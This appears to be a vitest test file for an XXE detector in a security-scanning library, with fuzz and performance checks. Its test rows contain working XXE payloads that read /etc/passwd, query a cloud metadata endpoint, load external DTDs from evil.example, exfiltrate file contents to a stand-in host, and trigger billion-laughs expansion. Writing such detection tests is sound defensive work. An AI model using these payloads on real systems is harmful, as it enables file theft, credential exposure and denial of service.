import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { mayBeXxe, xxeDetector } from '../../src/detect/xxe.js';
import {
  describePrefilter,
  expectLinearOnNearMatches,
  expectWellFormedUnderFuzz,
  fuzzValues,
  type Row,
  rowInspector,
} from './helpers.js';

const inspect = rowInspector(xxeDetector, { location: 'body', source: 'body' });

const ROWS: Row[] = [
  {
    input: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    expect: true,
  },
  {
    input:
      '<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/"> ]><foo>&xxe;</foo>',
    expect: true,
  },
  {
    input: '<!doctype x [<!entity a public "x" "php://filter/convert.base64-encode/resource=index.php">]>',
    expect: true,
  },
  { input: '<!DOCTYPE x [<!ENTITY a SYSTEM "expect://id">]><x>&a;</x>', expect: true },
  { input: '<!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><x/>', expect: true },
  {
    input:
      '<!DOCTYPE x [\n  <!ENTITY % file SYSTEM "file:///etc/hostname">\n  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://e.example/?x=%file;\'>">\n  %eval;\n  %exfil;\n]>',
    expect: true,
  },
  {
    input:
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>',
    expect: true,
  },
  { input: '<!DOCTYPE note SYSTEM "http://evil.example/note.dtd"><note/>', expect: true },
  {
    input:
      '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    expect: true,
  },
  {
    input:
      "abc'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE root [ <!ENTITY % x SYSTEM \"http://e.example/\"> %x;]>'),'/l') from dual)||'",
    expect: true,
  },
  { input: 'foo!ENTITY % bar SYSTEM "http://e.example/"', expect: true },
  // benign
  { input: '<!DOCTYPE html><html><body>hi</body></html>', expect: false },
  {
    input:
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    expect: false,
  },
  {
    input: '<?xml version="1.0" encoding="UTF-8"?><order><id>42</id><item>Tea &amp; biscuits</item></order>',
    expect: false,
  },
  { input: 'The ENTITY keyword declares an entity in a DTD', expect: false },
  {
    input:
      '<soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.example/ http://a.example/s.xsd"/>',
    expect: false,
  },
  {
    input:
      '<soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.example/ http://a.example/s.xsd"/>',
    expect: true,
    paranoia: 2,
  },
];

describe('xxe detector', () => {
  it.each(ROWS)('$input → $expect', (row) => {
    expect(inspect(row).fired).toBe(row.expect);
  });

  it('reports the taxonomy ids and the location', () => {
    const [f] = xxeDetector.compile({ paranoia: 1 })({
      value: ROWS[0].input,
      location: 'body',
      source: 'body',
      profile: 'generic',
    });
    expect(f).toMatchObject({
      category: 'injection',
      subtype: 'xxe',
      detector: 'xxe',
      location: 'body',
      severity: 'critical',
    });
    expect(f.fragment?.startsWith('<!ENTITY')).toBe(true);
  });

  it('never throws and always returns well-formed findings (fuzz)', () => {
    const pieces = [
      '<!DOCTYPE',
      '<!ENTITY',
      ' ',
      '%',
      'x',
      ';',
      '&',
      'SYSTEM',
      '"',
      'file://',
      '[',
      ']',
      '>',
      'xi:include',
    ];
    expectWellFormedUnderFuzz(
      xxeDetector,
      { value: fuzzValues(pieces, 60) },
      { fixed: { location: 'body', source: 'body' } },
    );
  });

  it('stays linear on 1 MB of repeated near-matches', () => {
    expectLinearOnNearMatches(
      xxeDetector,
      ['<!ENTITY', '<!DOCTYPE x [', '<!ENTITY % a SYSTEM', '&a;', 'xi:include'],
      { where: { location: 'body', source: 'body' } },
    );
  });
});

describePrefilter('xxe prefilter (mayBeXxe)', {
  detector: xxeDetector,
  pre: (v: string) => mayBeXxe(v),
  rows: ROWS,
  token: fc.constantFrom(
    '<!ENTITY',
    '<!DOCTYPE',
    '!',
    ':',
    'xi:include',
    'schemaLocation',
    'http://',
    ' ',
    'SYSTEM',
    '%',
    'a',
    '1',
    '<',
    '>',
  ),
});
